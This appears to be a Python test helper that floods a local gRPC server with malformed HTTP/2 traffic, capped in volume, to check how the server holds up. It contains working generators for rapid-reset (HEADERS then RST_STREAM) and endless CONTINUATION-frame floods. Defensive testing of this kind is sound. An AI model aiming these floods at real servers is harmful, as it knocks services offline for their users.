"""Peers that misuse HTTP/2: what they send, over plain sockets."""

import contextlib
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header(name, value):
    """A literal header that is not to be remembered."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/isomatch.v1.CorrespondenceService/GetServerInfo"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def rapid_resets(first):
    """200 calls from this one on, each taken back at once; and the next one's number."""
    calls = range(first, first + 400, 2)
    sent = b"".join(
        frame(HEADERS, END_HEADERS, call, REQUEST) + frame(RST_STREAM, 0, call, CANCEL)
        for call in calls
    )
    return sent, first + 400


MORE_HEADERS = header(b"x" * 100, b"y" * 120) * 60


def endless_headers(first):
    """A call whose headers never end."""
    begin = frame(HEADERS, 0, 1, REQUEST) if first == 1 else b""
    return begin + 20 * frame(CONTINUATION, 0, 1, MORE_HEADERS), first + 2


class Flood:
    """Floods 127.0.0.1:port from 127.0.0.2 until the end of a `with`.

    On some connections at a time. Who is cut off connects again. At most `most_bytes` are sent.
    """

    def __init__(self, port, make, connections=4, most_bytes=256 << 20):
        self._port, self._make, self._most = port, make, most_bytes // connections
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run) for _ in range(connections)]
        self.sent = 0

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def _run(self):
        left = self._most
        while left > 0 and not self._stop.is_set():
            with contextlib.suppress(OSError):
                left -= self._one_connection(left)
            time.sleep(0.01)

    def _one_connection(self, left):
        sent, call = 0, 1
        place = {"timeout": 5, "source_address": ("127.0.0.2", 0)}
        with socket.create_connection(("127.0.0.1", self._port), **place) as peer:
            peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
            try:
                while sent < left and not self._stop.is_set():
                    part, call = self._make(call)
                    peer.sendall(part)
                    sent += len(part)
            except OSError:
                pass
        self.sent += sent
        return sent
